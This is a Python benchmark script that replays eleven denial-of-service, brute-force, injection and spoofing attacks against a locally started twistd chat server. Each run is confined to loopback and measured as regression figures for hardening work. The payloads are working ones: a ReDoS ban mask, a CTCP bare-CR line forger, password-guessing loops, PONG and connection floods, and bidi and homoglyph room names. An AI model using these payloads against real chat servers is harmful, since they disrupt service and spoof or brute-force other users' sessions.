"""Rerun the hardening issue's attacks against a real server, black-box, and print figures.

Each attack gets a fresh ``twistd chat`` on 127.0.0.1 with the default
limits (plus what the attack needs: an operator account, a server password,
an IRC listener).  A watcher pair (a talker and a listener, from their own
loopback address) chats in ``#chat`` throughout, so every figure comes with
what the attack did to everyone else: lines lost and the worst delay.
Every loop is bounded in count and time, every connection goes only to
127.0.0.0/8, and every server is stopped (SIGTERM, then SIGKILL) by PID.

    python -m bench.attacks                   # every attack, this checkout's twistd
    python -m bench.attacks --only redos,pong
    python -m bench.attacks --twistd /old/venv/bin/twistd   # the same against another build

Attacks that need a feature the server under test lacks are reported as
such, not skipped silently.
"""

from __future__ import annotations

import argparse
import os
import re
import secrets
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from bench.run import free_port, stop, wait_listening

WATCH_SOURCE = "127.0.0.2"
ATTACK_SOURCE = "127.0.0.3"
#: Seconds between the watcher's lines: under the default flood rate (2/s).
TICK = 0.6
#: The longest any single wait may last.
WAIT = 15.0


# -- connections ----------------------------------------------------------------

class Conn:
    """A raw client connection from a chosen loopback address."""

    def __init__(self, port: int, source: str = ATTACK_SOURCE, timeout: float = WAIT) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                             source_address=(source, 0))
        self.buffer = b""
        self.received = 0
        self.closed = False

    def send(self, text: str | bytes, end: bytes = b"\n") -> None:
        data = text if isinstance(text, bytes) else text.encode("utf-8")
        try:
            self.sock.sendall(data + end)
        except OSError:
            self.closed = True

    def _fill(self, timeout: float) -> bool:
        if self.closed:
            return False
        self.sock.settimeout(max(timeout, 0.001))
        try:
            data = self.sock.recv(65536)
        except TimeoutError:
            return True
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return False
        self.received += len(data)
        self.buffer += data
        return True

    def lines(self, timeout: float) -> Iterator[str]:
        """Lines as they arrive, until C{timeout} seconds pass or the peer closes."""
        deadline = time.monotonic() + timeout
        while True:
            while b"\n" in self.buffer:
                line, self.buffer = self.buffer.split(b"\n", 1)
                yield line.rstrip(b"\r").decode("utf-8", "replace")
            left = deadline - time.monotonic()
            if left <= 0 or not self._fill(left):
                return

    def wait_for(self, pattern: str, timeout: float = WAIT) -> str | None:
        """The first line matching the regular expression C{pattern}, or C{None}."""
        wanted = re.compile(pattern)
        for line in self.lines(timeout):
            if wanted.search(line):
                return line
        return None

    def drain(self, seconds: float, limit: int = 200 * 1024 * 1024) -> int:
        """Read for up to C{seconds} (stopping after 1 s of silence); bytes read."""
        start = self.received
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and self.received - start < limit:
            before = self.received
            if not self._fill(min(1.0, deadline - time.monotonic())) or self.received == before:
                break
        self.buffer = b""
        return self.received - start

    def close(self) -> None:
        self.sock.close()


def line_user(port: int, name: str, source: str = ATTACK_SOURCE) -> Conn:
    conn = Conn(port, source)
    conn.send(f"#{name}")
    if conn.wait_for(rf"^\* you are {re.escape(name)}\b") is None:
        raise RuntimeError(f"{name} could not register")
    return conn


def irc_user(port: int, nick: str, source: str = ATTACK_SOURCE) -> Conn:
    conn = Conn(port, source)
    conn.send(f"NICK {nick}\r\nUSER {nick} 0 * :{nick}", end=b"\r\n")
    if conn.wait_for(r"^:\S+ (001|433|432) ") is None:
        raise RuntimeError(f"{nick} could not register over IRC")
    return conn


# -- the server and the watcher -------------------------------------------------

@dataclass
class Server:
    twistd: str
    workdir: Path
    options: tuple[str, ...] = ()
    #: The line listener's endpoint string, C{{port}} filled in.
    port_spec: str = "tcp:{port}:interface=127.0.0.1"
    port: int = 0
    irc_port: int = 0
    process: subprocess.Popen | None = None

    def start(self) -> Server:
        self.port, self.irc_port = free_port(), free_port()
        self.log = self.workdir / f"server-{self.port}.log"
        self.process = subprocess.Popen(
            [self.twistd, "-n", "--pidfile=", f"--logfile={self.log}", "chat",
             "--port", self.port_spec.format(port=self.port),
             "--irc-port", f"tcp:{self.irc_port}:interface=127.0.0.1", *self.options],
            cwd=self.workdir, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL)
        wait_listening(self.port, self.process)
        wait_listening(self.irc_port, self.process)
        return self

    def stop(self) -> None:
        if self.process is not None:
            stop(self.process)

    def rss_mib(self) -> float:
        assert self.process is not None
        status = Path(f"/proc/{self.process.pid}/status").read_text()
        return int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) / 1024  # type: ignore[union-attr]

    def log_bytes(self) -> int:
        return sum(path.stat().st_size for path in self.workdir.glob(f"server-{self.port}.log*"))


@dataclass
class Watcher:
    """A talker and a listener in #chat: what the attack did to everyone else."""

    port: int
    sent: int = 0
    delays: list[float] = field(default_factory=list)

    def __enter__(self) -> Watcher:
        self.talker = line_user(self.port, "talker", WATCH_SOURCE)
        self.listener = line_user(self.port, "listener", WATCH_SOURCE)
        self._stop = threading.Event()
        self._sent_at: dict[int, float] = {}
        self._threads = [threading.Thread(target=self._talk, daemon=True),
                         threading.Thread(target=self._listen, daemon=True)]
        for thread in self._threads:
            thread.start()
        return self

    def _talk(self) -> None:
        while not self._stop.is_set() and self.sent < 1000:
            self._sent_at[self.sent] = time.monotonic()
            self.talker.send(f"tick {self.sent}")
            self.sent += 1
            self._stop.wait(TICK)

    def _listen(self) -> None:
        while not self._stop.is_set() or len(self.delays) < self.sent:
            for line in self.listener.lines(0.5):
                found = re.fullmatch(r"<talker> tick (\d+)", line)
                if found:
                    self.delays.append(time.monotonic() - self._sent_at[int(found.group(1))])
            if self._stop.is_set() and (self.listener.closed or self._grace_over()):
                return

    def _grace_over(self) -> bool:
        return time.monotonic() > self._stopped_at + WAIT

    def __exit__(self, *exc: object) -> None:
        self._stopped_at = time.monotonic()
        self._stop.set()
        for thread in self._threads:
            thread.join(WAIT + 5)
        self.talker.close()
        self.listener.close()

    def figures(self) -> str:
        lost = self.sent - len(self.delays)
        worst = max(self.delays, default=0.0)
        median = statistics.median(self.delays) if self.delays else 0.0
        return (f"watcher: {self.sent} lines, {lost} lost, "
                f"median {median * 1e3:.0f} ms, worst {worst * 1e3:.0f} ms")


# -- the attacks ----------------------------------------------------------------

@dataclass
class Context:
    twistd: str
    workdir: Path
    oper_password: str = field(default_factory=lambda: secrets.token_hex(8))

    @contextmanager
    def server(self, *options: str,
               port_spec: str = "tcp:{port}:interface=127.0.0.1") -> Iterator[Server]:
        server = Server(self.twistd, self.workdir, options, port_spec).start()
        try:
            yield server
        finally:
            server.stop()


Result = list[tuple[str, str]]


def attack_redos(ctx: Context, stars: int = 10) -> Result:
    """1. A backtracking ban mask, then a user it almost matches joins."""
    ban = "*a" * stars + "*b"
    with ctx.server() as server, Watcher(server.port) as watcher:
        op = line_user(server.port, "op")
        op.send("/join #trap")
        op.send(f"/ban {ban}")
        op.wait_for(r"sets \+b")
        victim = line_user(server.port, "a" * 32)
        started = time.monotonic()
        victim.send("/join #trap")
        answered = victim.wait_for(r"you joined #trap|banned", timeout=WAIT)
        took = time.monotonic() - started
        time.sleep(3 * TICK)
    return [(f"/ban {ban}; 'a'*32 joins",
             f"join answered in {took * 1e3:.0f} ms" if answered
             else f"join not answered in {WAIT:.0f} s"),
            ("", watcher.figures())]


def attack_amplification(ctx: Context) -> Result:
    """2. Small requests, large replies: MODE +bbbb..., LIST, /rooms, line /mode."""
    out: Result = []
    with ctx.server("--max-per-ip", "0") as server, Watcher(server.port) as watcher:
        op = irc_user(server.irc_port, "op")
        op.send("JOIN #amp", end=b"\r\n")
        for start in range(0, 100, 4):
            masks = " ".join(f"*!*@spam{n}.example" for n in range(start, start + 4))
            op.send(f"MODE #amp +bbbb {masks}", end=b"\r\n")
        op.drain(60)  # the flood gate spaces out the 25 lines
        request = "MODE #amp +" + "b" * 4076
        out.append((f"IRC {request[:13]}... ({len(request)} B), 100 bans",
                    f"{irc_request(server, request):,} B back"))
        # 550 rooms, made by 11 users in 50 each.
        makers = []
        for n in range(11):
            maker = irc_user(server.irc_port, f"maker{n}")
            maker.send("JOIN " + ",".join(f"#room{n}x{r}" for r in range(50)), end=b"\r\n")
            for r in range(0, 50, 10):  # topics, as real rooms have (the flood gate spaces them)
                maker.send(f"TOPIC #room{n}x{r} :{'a topic of a real length ' * 12}",
                           end=b"\r\n")
            makers.append(maker)
        for maker in makers:
            maker.drain(20)
        out.append(("IRC LIST (6 B), 550 rooms", f"{irc_request(server, 'LIST'):,} B back"))
        out.append(("IRC WHO * (7 B), 13 users", f"{irc_request(server, 'WHO *'):,} B back"))
        reader = line_user(server.port, "reader")
        reader.drain(1)
        reader.send("/rooms")
        out.append(("line /rooms (7 B), 550 rooms", f"{reader.drain(30):,} B back"))
        reader.send("/join #amp")
        reader.drain(2)
        request = "/mode +" + "b" * 4076
        reader.send(request)
        out.append((f"line {request[:10]}... ({len(request)} B)", f"{reader.drain(60):,} B back"))
    out.append(("", watcher.figures()))
    return out


def irc_request(server: Server, request: str) -> int:
    """Bytes a new IRC user gets back for one request (read for up to 60 s)."""
    asker = irc_user(server.irc_port, f"asker{secrets.token_hex(3)}")
    asker.drain(1)
    asker.send(request, end=b"\r\n")
    got = asker.drain(60)
    asker.close()
    return got


def attack_ctcp(ctx: Context) -> Result:
    """3. CTCP carrying a bare CR (a forged line in HexChat/mIRC), NUL and ESC."""
    with ctx.server() as server:
        victim = irc_user(server.irc_port, "victim")
        attacker = irc_user(server.irc_port, "evil")
        victim.drain(1)
        attacker.send(b"PRIVMSG victim :\x01PING 1\r:evil!evil@chat.test PRIVMSG victim :FORGED"
                      b"\x01", end=b"\r\n")
        attacker.send(b"NOTICE victim :\x01VERSION x\x00y\r\x1b[2J\x01", end=b"\r\n")
        time.sleep(1)
        victim.sock.settimeout(2)
        data = b""
        try:
            while len(data) < 65536:
                chunk = victim.sock.recv(65536)
                if not chunk:
                    break
                data += chunk
        except TimeoutError:
            pass
    bare_cr = len(re.findall(rb"\r(?!\n)", data))
    controls = sum(data.count(bytes([c])) for c in (0, 0x1B))
    return [("CTCP with CR, NUL, ESC to an IRC user",
             f"victim got {bare_cr} bare CR, {controls} NUL/ESC bytes")]


def attack_dual_stack(ctx: Context) -> Result:
    """4. An IPv4 client of an IPv6 (dual-stack) listener, and a ban on its address.

    The listener is bound to the IPv4-mapped ``::ffff:127.0.0.1``, which
    reports its IPv4 clients exactly as a ``[::]`` listener does, without
    listening beyond loopback.
    """
    with ctx.server("--max-per-ip", "0",
                    port_spec="tcp6:{port}:interface=\\:\\:ffff\\:127.0.0.1") as server:
        op = line_user(server.port, "op")
        op.send("/join #v4")
        op.send("/ban *!*@127.0.0.*")
        op.wait_for(r"sets \+b")
        looker = irc_user(server.irc_port, "looker")
        looker.send("WHOIS op", end=b"\r\n")
        whois = looker.wait_for(r" 311 ") or ""
        guest = line_user(server.port, "guest")
        guest.send("/join #v4")
        answer = guest.wait_for(r"you joined #v4|banned") or "(no answer)"
    host = whois.split(" ")[5] if whois.count(" ") > 5 else "?"
    return [("IPv4 client on a v4-mapped IPv6 listener", f"WHOIS shows host {host}"),
            ("ban *!*@127.0.0.* then it joins", answer)]


def attack_guessing(ctx: Context, seconds: float = 5.0) -> Result:
    """5. /oper and server-password guessing, reconnecting for fresh flood tokens."""
    out: Result = []
    with ctx.server("--oper", f"admin:{ctx.oper_password}") as server:
        wrong = refused = connections = 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and connections < 50_000:
            try:
                conn = line_user(server.port, f"g{connections}")
            except (OSError, RuntimeError):
                refused += 1
                connections += 1
                continue
            connections += 1
            for n in range(8):
                conn.send(f"/oper admin guess{connections}x{n}")
            for line in conn.lines(1.0):
                if "bad operator name or password" in line:
                    wrong += 1
                elif line.startswith("!"):
                    refused += 1
                if wrong + refused >= 8 * connections:
                    break
            conn.close()
        out.append((f"/oper guesses for {seconds:.0f} s, {connections} connections",
                    f"{wrong / seconds:,.0f} checked/s ({wrong} in all), {refused} refused"))
    with ctx.server("--password", ctx.oper_password) as server:
        checked = connections = 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and connections < 50_000:
            connections += 1
            try:
                conn = Conn(server.port)
            except OSError:
                continue
            conn.send(f"/pass guess{connections}")
            if conn.wait_for(r"wrong password", timeout=2):
                checked += 1
            conn.close()
        out.append((f"server password guesses for {seconds:.0f} s",
                    f"{checked / seconds:,.0f} checked/s ({checked} in all)"))
    return out


def attack_before_password(ctx: Context) -> Result:
    """6. What a bare connection learns from a password-protected server."""
    with ctx.server("--password", ctx.oper_password) as server:
        member = Conn(server.port)
        member.send(f"/pass {ctx.oper_password}")
        member.send("#member")
        member.send("/join #secretplans")
        member.send("/topic the plans")
        member.drain(2)
        nosy = Conn(server.port)
        nosy.drain(1)
        for command in ("/who", "/who #secretplans", "/rooms"):
            nosy.send(command)
        leaked = [line for line in nosy.lines(3) if "member" in line or "secretplans" in line]
    return [("/who, /who #room, /rooms before /pass",
             f"{len(leaked)} answers naming users or rooms")]


def attack_storm(ctx: Context, seconds: float = 5.0) -> Result:
    """7. Connect, register, quit, as fast as one address can."""
    with ctx.server() as server:
        member = line_user(server.port, "member", WATCH_SOURCE)
        log_before = server.log_bytes()
        registered = refused = 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and registered + refused < 20000:
            try:
                conn = Conn(server.port, timeout=2)
                conn.send(f"#s{registered}\n/quit")
                if conn.wait_for(r"^\* you are ", timeout=2):
                    registered += 1
                else:
                    refused += 1
                conn.close()
            except OSError:
                refused += 1
        time.sleep(1)
        announcements = sum(1 for line in member.lines(2) if re.match(r"\* s\d+ (joined|left)",
                                                                       line))
        attempts = registered + refused
        per_connection = (server.log_bytes() - log_before) / max(attempts, 1)
    return [(f"connect/register/quit loop for {seconds:.0f} s",
             f"{registered / seconds:,.0f} registrations/s ({registered}), {refused} refused"),
            ("", f"a member got {announcements:,} join/leave lines; "
                 f"log {per_connection:.0f} B per connection")]


def attack_pong(ctx: Context, seconds: float = 3.0) -> Result:
    """8. PONG as fast as the socket takes it."""
    with ctx.server() as server, Watcher(server.port) as watcher:
        conn = irc_user(server.irc_port, "ponger")
        chunk = b"PONG :x\r\n" * 4096
        sent = 0
        deadline = time.monotonic() + seconds
        conn.sock.settimeout(1)
        while time.monotonic() < deadline and not conn.closed:
            try:
                conn.sock.sendall(chunk)
                sent += 4096
            except OSError:
                conn.closed = True
        conn.drain(3)
        cut_off = conn.closed
    return [(f"PONG flood for {seconds:.0f} s", f"{sent / seconds:,.0f} lines/s written, "
             + ("disconnected" if cut_off else "still connected")),
            ("", watcher.figures())]


def attack_lists(ctx: Context, seconds: float = 20.0) -> Result:
    """9. One address's connections fill ban lists in rooms of their own."""
    with ctx.server() as server:
        before = server.rss_mib()
        users = []
        for n in range(11):
            user = irc_user(server.irc_port, f"lister{n}")
            user.send("JOIN " + ",".join(f"#l{n}x{r}" for r in range(50)), end=b"\r\n")
            users.append(user)
        deadline = time.monotonic() + seconds
        line = 0
        while time.monotonic() < deadline:
            for n, user in enumerate(users):
                room = f"#l{n}x{line % 50}"
                masks = " ".join(f"*!*@h{line}x{m}.example.org" for m in range(100))
                user.send(f"MODE {room} +{'b' * 100} {masks}", end=b"\r\n")
                user.drain(0.01)
            line += 1
            time.sleep(0.45)  # about two lines a second each, under the flood rate
        time.sleep(2)
        after = server.rss_mib()
        for user in users:
            user.close()
        time.sleep(2)
        gone = server.rss_mib()
    return [(f"11 connections setting bans for {seconds:.0f} s",
             f"RSS {before:.1f} -> {after:.1f} MiB; {gone:.1f} MiB after they left")]


def attack_lookalikes(ctx: Context) -> Result:
    """10. Look-alike room names and invisible or bidi characters in text."""
    names = ["#chat\u200b", "#\u0441hat", "#\u202etahc"]
    with ctx.server() as server:
        listener = line_user(server.port, "listener", WATCH_SOURCE)
        accepted = 0
        for name in names:
            user = line_user(server.port, f"spoofer{accepted}{len(name)}")
            user.send(f"/join {name}")
            user.send("/who")
            answer = user.wait_for(r"^\* (in|online)", timeout=5) or ""
            accepted += name in answer
            user.close()
        talker = line_user(server.port, "talker")
        talker.send("hello \u202eworld\u2028")
        heard = listener.wait_for(r"<talker>", timeout=5) or ""
    controls = sum(heard.count(c) for c in "\u202e\u2028")
    return [("rooms #chat+ZWSP, Cyrillic #\u0441hat, #+RLO tahc", f"{accepted} of 3 accepted"),
            ("text with RLO and U+2028", f"{controls} of 2 relayed")]


def attack_services(ctx: Context) -> Result:
    """11. Taking the names IRC clients send their passwords to."""
    taken = []
    with ctx.server() as server:
        for name in ("NickServ", "ChanServ"):
            conn = Conn(server.port)
            conn.send(f"#{name}")
            if conn.wait_for(rf"^\* you are {name}\b", timeout=3):
                taken.append(name)
            conn.close()
    return [("register NickServ, ChanServ", f"{len(taken)} of 2 taken")]


ATTACKS: dict[str, Callable[[Context], Result]] = {
    "redos": attack_redos,
    "amplification": attack_amplification,
    "ctcp": attack_ctcp,
    "dual-stack": attack_dual_stack,
    "guessing": attack_guessing,
    "before-password": attack_before_password,
    "storm": attack_storm,
    "pong": attack_pong,
    "lists": attack_lists,
    "lookalikes": attack_lookalikes,
    "services": attack_services,
}


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.attacks",
                                     description=__doc__.split("\n")[0])
    parser.add_argument("--only", default=",".join(ATTACKS),
                        help="comma-separated, from: " + ", ".join(ATTACKS))
    parser.add_argument("--twistd", default=str(Path(sys.executable).with_name("twistd")),
                        help="the twistd to run (another build's, to compare)")
    options = parser.parse_args(argv)
    try:
        chosen = [(name, ATTACKS[name]) for name in options.only.split(",") if name]
    except KeyError as error:
        parser.error(f"unknown attack {error}")
    with tempfile.TemporaryDirectory(prefix="chatsvc-attacks-") as workdir:
        context = Context(options.twistd, Path(workdir))
        print(f"server: {options.twistd}; pid {os.getpid()} drives it from 127.0.0.0/8")
        for name, attack in chosen:
            started = time.monotonic()
            try:
                rows = attack(context)
            except Exception as error:  # one attack's failure is a figure too
                rows = [(attack.__doc__ or name, f"could not run: {error!r}")]
            print(f"[{name}] ({time.monotonic() - started:.0f} s)")
            for what, figure in rows:
                print(f"  {what:<48} {figure}")
            sys.stdout.flush()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
